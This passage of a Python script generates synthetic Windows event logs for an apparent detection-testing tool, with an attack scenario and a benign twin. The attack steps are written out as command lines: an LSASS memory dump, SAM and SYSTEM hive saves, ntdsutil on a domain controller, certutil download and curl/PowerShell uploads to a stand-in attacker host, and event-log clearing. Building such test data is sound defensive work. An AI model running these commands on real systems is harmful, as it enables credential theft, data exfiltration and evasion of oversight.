        ((22, 11, 22.5), S32 + "wbem\\WMIC.exe", "wmic volume list brief", None),
        ((22, 17, 2.2), S32 + "certutil.exe", "certutil -urlcache -split -f http://%s/rar.exe C:\\ProgramData\\rar.exe" % ATTACKER_WEB, "dl"),
        ((22, 19, 30.6), S32 + "rundll32.exe", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 756 C:\\ProgramData\\Microsoft\\Crypto\\d.bin full", "dump"),
        ((22, 21, 4.0), S32 + "reg.exe", "reg save hklm\\system C:\\ProgramData\\Microsoft\\Crypto\\s.hiv /y", "hive_s"),
        ((22, 21, 40.3), S32 + "reg.exe", "reg save hklm\\sam C:\\ProgramData\\Microsoft\\Crypto\\sm.hiv /y", "hive_sm"),
        ((22, 31, 12.9), S32 + "wbem\\WMIC.exe", "wmic /node:%s process call create \"cmd /c ntdsutil \\\"ac i ntds\\\" ifm \\\"create full C:\\Windows\\Temp\\Perf\\\" q q\"" % DC, "wmi"),
        ((22, 48, 3.5), S32 + "makecab.exe", "makecab C:\\Eng\\N3\\Specs\\N3-process-spec-v4.pdf C:\\ProgramData\\Microsoft\\Crypto\\s1.cab", "cab"),
        ((22, 52, 18.1), "C:\\ProgramData\\rar.exe", "C:\\ProgramData\\rar.exe a -hpF4b!2026 -m5 C:\\ProgramData\\Microsoft\\Crypto\\s2.rar C:\\Eng\\N3\\FabPhotos\\cleanroom-*.jpg", "rar"),
        ((22, 55, 2.7), "C:\\ProgramData\\rar.exe", "C:\\ProgramData\\rar.exe a -hpF4b!2026 C:\\ProgramData\\Microsoft\\Crypto\\s3.rar C:\\ProgramData\\Microsoft\\Crypto\\d.bin C:\\ProgramData\\Microsoft\\Crypto\\s.hiv C:\\ProgramData\\Microsoft\\Crypto\\sm.hiv", "rar3"),
        ((23, 2, 20.4), S32 + "certutil.exe", "certutil -encode C:\\ProgramData\\Microsoft\\Crypto\\s1.cab C:\\ProgramData\\Microsoft\\Crypto\\s1.txt", "enc"),
        ((23, 8, 5.0), S32 + "curl.exe", "curl.exe -k -T C:\\ProgramData\\Microsoft\\Crypto\\s2.rar https://%s/in/" % ATTACKER_WEB, "up"),
        ((23, 11, 30.2), S32 + "WindowsPowerShell\\v1.0\\powershell.exe",
         "powershell.exe -nop -w hidden -c \"Invoke-WebRequest -Uri https://%s/in/s1.txt -Method PUT -InFile C:\\ProgramData\\Microsoft\\Crypto\\s1.txt -UseBasicParsing\"" % ATTACKER_WEB, "ps"),
        ((23, 14, 44.8), S32 + "curl.exe", "curl.exe -k -T C:\\ProgramData\\Microsoft\\Crypto\\s3.rar https://%s/in/" % ATTACKER_WEB, "up"),
        ((23, 20, 3.3), S32 + "wevtutil.exe", "wevtutil cl \"Microsoft-Windows-PowerShell/Operational\"", None),
        ((23, 20, 31.9), S32 + "wevtutil.exe", "wevtutil cl Security", "clear"),
    ]
    photos = ["cleanroom-0407.jpg", "cleanroom-0408.jpg", "cleanroom-0411.jpg", "cleanroom-0412.jpg",
              "cleanroom-0415.jpg", "cleanroom-0419.jpg"]
    for (hh, mm, ss), img, line, kind in steps:
        t = at(hh, mm, ss)
        dur = {"rar": 21.0, "up": 64.0, "ps": 41.0, "cab": 6.0, "dump": 3.2, "dl": 2.5, "rar3": 9.0}.get(kind, rng.uniform(0.2, 3.0))
        meta = None
        if img.endswith("rar.exe"):
            meta = ("7.01", "Command line RAR", "WinRAR", "Alexander Roshal", "Command line RAR")
        p = h.spawn(t, cmd, img, line, dur=dur, meta=meta)
        if kind == "net1":
            h.spawn(t + timedelta(milliseconds=15), p, S32 + "net1.exe", "C:\\Windows\\system32\\net1  group \"Domain Admins\" /domain", dur=0.8)
            h.net(t + timedelta(milliseconds=40), p, DC, 389, dhost="dc01." + DOMAIN)
        elif kind == "dl":
            h.net(t + timedelta(milliseconds=90), p, ATTACKER_WEB, 80)
            h.file(t + timedelta(seconds=2.1), p, "C:\\ProgramData\\rar.exe")
        elif kind == "dump":
            h.file(t + timedelta(seconds=0.4), p, "C:\\ProgramData\\Microsoft\\Crypto\\d.bin")
        elif kind in ("hive_s", "hive_sm"):
            h.file(t + timedelta(seconds=0.3), p, "C:\\ProgramData\\Microsoft\\Crypto\\%s.hiv" % ("s" if kind == "hive_s" else "sm"))
        elif kind == "wmi":
            h.net(t + timedelta(milliseconds=60), p, DC, 135, dhost="dc01." + DOMAIN)
        elif kind == "cab":
            h.read(t + timedelta(seconds=0.2), "m.okafor", lid, ENG + "Specs\\N3-process-spec-v4.pdf", img, p.pid)
            h.file(t + timedelta(seconds=5.5), p, "C:\\ProgramData\\Microsoft\\Crypto\\s1.cab")
        elif kind == "rar":
            for i, ph in enumerate(photos):
                h.read(t + timedelta(seconds=0.5 + 3 * i), "m.okafor", lid, ENG + "FabPhotos\\" + ph, img, p.pid)
            h.file(t + timedelta(seconds=0.3), p, "C:\\ProgramData\\Microsoft\\Crypto\\s2.rar")
        elif kind == "rar3":
            h.file(t + timedelta(seconds=0.3), p, "C:\\ProgramData\\Microsoft\\Crypto\\s3.rar")
        elif kind == "enc":
            h.file(t + timedelta(seconds=0.6), p, "C:\\ProgramData\\Microsoft\\Crypto\\s1.txt")
        elif kind in ("up", "ps"):
            h.net(t + timedelta(milliseconds=350), p, ATTACKER_WEB, 443)
            if kind == "ps":
                h.ps(t + timedelta(milliseconds=300),
                     "Invoke-WebRequest -Uri https://%s/in/s1.txt -Method PUT -InFile C:\\ProgramData\\Microsoft\\Crypto\\s1.txt -UseBasicParsing" % ATTACKER_WEB,
                     SID["m.okafor"])
        elif kind == "clear":
            h.cleared(t + timedelta(seconds=0.2), {"SubjectUserSid": SID["m.okafor"], "SubjectUserName": "m.okafor",
                                                   "SubjectDomainName": "CORP", "SubjectLogonId": lid})
    t = at(23, 24, 50.0)
    h.terminate(t, cmd)
    h.terminate(t + timedelta(seconds=3), ex)
    h.logoff(t + timedelta(seconds=6), "m.okafor", lid, 10)


def windows_extra(h, seed, target):
    """Benign twin: the evening looks like every other evening, with a bit more background."""
    rng = random.Random("%s:win:extra" % seed)
    edge = h.proc("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
                  "\"C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedgewebview2.exe\" --embedded-browser-webview=1",
                  "CORP\\a.chen", at(7, 33), logon="0x5a3c1f", session=1, integrity="Medium")
    names = [("wpad.corp.chipfab.example", "10.10.1.2"), ("ctldl.windowsupdate.com", "93.184.221.240"),
             ("settings-win.data.microsoft.com", "20.42.73.24"), ("dc01.corp.chipfab.example", DC)]
    k = 0
    while len(h.events) < target:
        t = at(21, 30) + timedelta(seconds=83 * k + rng.uniform(0, 40))
        if t >= at(23, 55):
            t = at(8, 0) + timedelta(seconds=67 * k)
        name, ip = rng.choice(names)
        p = h.dnscache if ip.startswith("10.") else edge
        h.dns(t, p, name, ip + ";" if ip.startswith("10.") else "::ffff:%s;" % ip)
        k += 1


def build(kind, attack, seed=20261119):
    if kind == "linux":
        h = LinuxHost(seed)
        linux_base(h, seed)
        if attack:
            linux_attack(h, seed)
        return h
    h = WinHost(seed)
    windows_base(h, seed)
    if attack:
        windows_attack(h, seed)
    return h


def generate(seed=20261119):
    out = {}
    for kind, fname in (("windows", "windows-fab-ws07.jsonl.gz"), ("linux", "linux-design-srv01.jsonl.gz")):
        a = build(kind, True, seed)
        b = build(kind, False, seed)
        (linux_extra if kind == "linux" else windows_extra)(b, seed, len(a.events))
        assert len(a.events) == len(b.events), (kind, len(a.events), len(b.events))
        ta = a.render()
        out["demo/" + fname] = ta
        out["tests/scenario/benign/" + fname] = b.render()
    return out


def main():
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("--root", default=os.path.normpath(os.path.join(os.path.dirname(os.path.abspath(__file__)), "..")))
    ap.add_argument("--check", action="store_true", help="compare with the files on disk instead of writing")
    a = ap.parse_args()
    files = generate()
    bad = 0
    for rel, text in sorted(files.items()):
        p = os.path.join(a.root, rel)
        if a.check:
            try:
                with gzip.open(p, "rt", encoding="utf-8") as fh:
                    same = fh.read() == text
            except OSError:
                same = False
            if not same:
                print("differs: " + rel)
                bad += 1
            continue
        os.makedirs(os.path.dirname(p), exist_ok=True)
        # gzip (stoat reads it as it is) with no name or time inside: the same
        # text gives the same bytes, so a regeneration changes nothing in git
        with open(p, "wb") as raw, gzip.GzipFile(filename="", mode="wb", fileobj=raw, mtime=0, compresslevel=9) as fh:
            fh.write(text.encode("utf-8"))
        print("%-48s %6d events %9d bytes" % (rel, text.count("\n"), len(text.encode())))
    return 1 if bad else 0


if __name__ == "__main__":
    sys.exit(main())
